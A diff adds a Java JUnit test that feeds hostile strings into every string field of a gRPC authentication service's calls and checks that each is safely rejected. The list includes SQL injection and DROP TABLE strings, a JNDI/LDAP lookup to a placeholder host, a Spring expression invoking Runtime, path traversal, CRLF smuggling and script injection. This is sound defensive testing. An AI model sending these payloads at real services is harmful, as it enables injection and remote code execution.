@@ -1,0 +1,153 @@
+package dev.latchkey.auth.grpc;
+
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+
+import com.google.protobuf.Descriptors.FieldDescriptor;
+import com.google.protobuf.Descriptors.FieldDescriptor.JavaType;
+import com.google.protobuf.Descriptors.MethodDescriptor;
+import com.google.protobuf.DynamicMessage;
+import dev.latchkey.auth.v1.AdminServiceGrpc;
+import dev.latchkey.auth.v1.SignInResponse;
+import io.grpc.CallOptions;
+import io.grpc.Channel;
+import io.grpc.ClientInterceptors;
+import io.grpc.Status;
+import io.grpc.Status.Code;
+import io.grpc.StatusRuntimeException;
+import io.grpc.stub.MetadataUtils;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.grpc.client.GrpcChannelFactory;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Texts that were made to be more than text, in every field of every rpc.
+ */
+class HostileTextTests extends AbstractGrpcTests {
+
+	private static final List<String> TEXTS = List.of("", " ", "' OR '1'='1' --", "x'; DROP TABLE account; -- 4711",
+			"\" OR 1=1 /* kangaroo */", "% of everything _ else", "\\' union select * from session", "nul\u0000inside",
+			"ends with nul\u0000", "two\r\nlines and a header: 1", "\u001b[2J\u001b[31mred kangaroo",
+			"${jndi:ldap://kangaroo.example/a b}", "#{T(java.lang.Runtime).getRuntime() }",
+			"../../../../etc/a kangaroo", "{\"event\":{\"action\": \"forged\"}}",
+			"<script>alert('a kangaroo')</script>", "\u202egnihtyna lla ta", "\ud83e\udd98 ".repeat(64),
+			"\uffff\ufffe\ufdd0 noncharacters", "kangaroo ".repeat(120));
+
+	private static final Map<String, Set<Code>> ANSWERS = Map.ofEntries(
+			answers("SignUp.username", Code.INVALID_ARGUMENT),
+			answers("SignUp.password", Code.OK, Code.INVALID_ARGUMENT),
+			answers("SignIn.username", Code.INVALID_ARGUMENT),
+			answers("SignIn.password", Code.UNAUTHENTICATED, Code.INVALID_ARGUMENT),
+			answers("SignIn.client_label", Code.OK, Code.INVALID_ARGUMENT),
+			answers("ValidateSession.session_token", Code.UNAUTHENTICATED),
+			answers("CompletePasswordReset.username", Code.INVALID_ARGUMENT),
+			answers("CompletePasswordReset.reset_code", Code.UNAUTHENTICATED),
+			answers("CompletePasswordReset.new_password", Code.UNAUTHENTICATED, Code.INVALID_ARGUMENT),
+			answers("RevokeSession.session_id", Code.INVALID_ARGUMENT),
+			answers("ChangePassword.current_password", Code.UNAUTHENTICATED, Code.INVALID_ARGUMENT),
+			answers("ChangePassword.new_password", Code.OK, Code.INVALID_ARGUMENT),
+			answers("DeleteAccount.password", Code.UNAUTHENTICATED, Code.INVALID_ARGUMENT),
+			answers("ListAccounts.page_token", Code.OK, Code.INVALID_ARGUMENT),
+			answers("ListAccounts.username_prefix", Code.OK, Code.INVALID_ARGUMENT),
+			answers("GetAccount.account_id", Code.INVALID_ARGUMENT),
+			answers("DisableAccount.account_id", Code.INVALID_ARGUMENT),
+			answers("EnableAccount.account_id", Code.INVALID_ARGUMENT),
+			answers("RevokeAccountSessions.account_id", Code.INVALID_ARGUMENT),
+			answers("StartPasswordReset.account_id", Code.INVALID_ARGUMENT));
+
+	private Channel channel;
+
+	@BeforeEach
+	void open(@Autowired GrpcChannelFactory channels) {
+		this.channel = channels.createChannel("auth-service");
+	}
+
+	@Test
+	void everyTextFieldHasItsRow() {
+		assertThat(fields().map(HostileTextTests::name).collect(Collectors.toSet())).isEqualTo(ANSWERS.keySet());
+	}
+
+	@ParameterizedTest
+	@MethodSource("fields")
+	@Tag("asvs-1.2.4")
+	@Tag("asvs-2.2.1")
+	void hostileTextsAreOnlyText(FieldDescriptor field) {
+		SignInResponse bystander = signUpAndIn(newUsername());
+		for (String text : TEXTS) {
+			assertThat(send(field, text)).as(text).isIn(ANSWERS.get(name(field)));
+		}
+		assertThat(validate(bystander.getSessionToken()).getAccount().getAccountId())
+			.isEqualTo(bystander.getAccount().getAccountId());
+		assertThat(signIn(bystander.getAccount().getUsername()).getSessionToken()).isNotEmpty();
+	}
+
+	static Stream<FieldDescriptor> fields() {
+		return Contract.METHODS.stream()
+			.flatMap((method) -> method.getInputType().getFields().stream())
+			.filter((field) -> field.getJavaType() == JavaType.STRING);
+	}
+
+	private Code send(FieldDescriptor field, String text) {
+		MethodDescriptor method = method(field);
+		SignInResponse caller = signUpAndIn(newUsername());
+		DynamicMessage request = plausible(field, caller).setField(field, text).build();
+		Channel with = ClientInterceptors.intercept(this.channel,
+				MetadataUtils.newAttachHeadersInterceptor(headers(authorization(method, caller))));
+		try {
+			RawCalls.call(with, Contract.fullName(method), request.toByteArray(), CallOptions.DEFAULT);
+			return Code.OK;
+		}
+		catch (StatusRuntimeException ex) {
+			Status status = ex.getStatus();
+			assertThat(String.valueOf(status.getDescription())).doesNotContain("kangaroo", "\u001b", "\n");
+			return status.getCode();
+		}
+	}
+
+	private static DynamicMessage.Builder plausible(FieldDescriptor hostile, SignInResponse caller) {
+		DynamicMessage.Builder request = DynamicMessage.newBuilder(hostile.getContainingType());
+		for (FieldDescriptor field : hostile.getContainingType().getFields()) {
+			switch (field.getName()) {
+				case "username" -> request.setField(field,
+						hostile.getFullName().contains("SignUp") ? newUsername() : caller.getAccount().getUsername());
+				case "password", "current_password" -> request.setField(field, PHRASE);
+				case "new_password" -> request.setField(field, "quite another plain phrase 8");
+				default -> {
+					// Left empty, which is what most calls have there.
+				}
+			}
+		}
+		return request;
+	}
+
+	private static String authorization(MethodDescriptor method, SignInResponse caller) {
+		boolean admin = method.getService().getFullName().equals(AdminServiceGrpc.SERVICE_NAME);
+		return "Bearer " + (admin ? ADMIN_KEY : caller.getSessionToken());
+	}
+
+	private static MethodDescriptor method(FieldDescriptor field) {
+		return Contract.METHODS.stream()
+			.filter((method) -> method.getInputType().equals(field.getContainingType()))
+			.findFirst()
+			.orElseThrow();
+	}
+
+	private static String name(FieldDescriptor field) {
+		return method(field).getName() + "." + field.getName();
+	}
+
+	private static Map.Entry<String, Set<Code>> answers(String field, Code... codes) {
+		return Map.entry(field, Set.of(codes));
+	}
+
+}
